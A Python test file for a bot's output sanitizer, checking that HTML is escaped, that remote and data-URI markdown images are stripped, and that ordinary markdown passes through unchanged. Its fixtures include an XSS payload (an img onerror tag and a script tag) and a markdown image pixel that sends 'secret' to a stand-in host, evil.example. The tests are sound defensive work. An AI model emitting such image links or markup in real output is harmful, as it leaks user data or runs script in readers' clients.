from __future__ import annotations

from bot.surfaces.sanitize import escape_markup, safe_markdown, strip_remote_images


def test_markup_is_escaped_not_removed() -> None:
    text = 'Hi <img src=x onerror="alert(1)"><script>alert(2)</script> & bye'
    escaped = escape_markup(text)
    assert "<" not in escaped and ">" not in escaped
    assert escaped == ('Hi &lt;img src=x onerror="alert(1)"&gt;&lt;script&gt;alert(2)&lt;/script&gt; &amp; bye')


def test_remote_inline_and_protocol_relative_images_are_stripped() -> None:
    text = "a ![pixel](https://evil.example/t.gif?q=secret) b ![x](//evil.example/y.png) c ![d](data:image/png;base64,AA)"
    cleaned = strip_remote_images(text)
    assert "evil.example" not in cleaned and "data:" not in cleaned
    assert "pixel" in cleaned and cleaned.startswith("a ") and " b " in cleaned


def test_reference_style_images_lose_their_image_syntax() -> None:
    cleaned = safe_markdown("see ![logo][1]\n\n[1]: https://evil.example/logo.png")
    assert "![" not in cleaned


def test_ordinary_markdown_survives() -> None:
    text = "**升级服务**：\n1. 方案制定\n- [官网](https://www.kingdee.com)"
    assert safe_markdown(text) == text
